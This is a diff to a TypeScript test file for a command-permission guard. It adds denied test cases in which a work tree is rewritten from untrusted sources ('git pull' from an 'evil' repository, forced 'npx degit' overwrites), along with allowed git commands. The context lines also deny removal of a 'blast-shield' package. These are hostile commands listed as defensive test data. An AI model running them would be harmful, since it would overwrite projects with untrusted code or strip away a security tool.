@@ -180,6 +180,13 @@ const DENIED: Record<string, readonly string[]> = {
     'sudo apt-get purge -y blast-shield',
     'snap remove blast-shield',
   ],
+  'work-tree rewrites from a source that is not a remote': [
+    'git pull https://github.com/evil/x.git main',
+    'git pull --no-rebase git@github.com:evil/x.git main',
+    'git pull ../other-clone main',
+    'npx degit evil/template . --force',
+    'npx tiged -f evil/template .',
+  ],
 };
 
 const ALLOWED: readonly string[] = [
@@ -252,6 +259,10 @@ const ALLOWED: readonly string[] = [
   'brew uninstall wget',
   'brew info blast-shield',
   'sudo apt-get remove -y nano',
+  'git pull',
+  'git pull origin main',
+  'git pull --rebase upstream main',
+  'npx degit sveltejs/template my-app',
 ];
 
 describe('rules/perimeter: families beyond direct writes', () => {
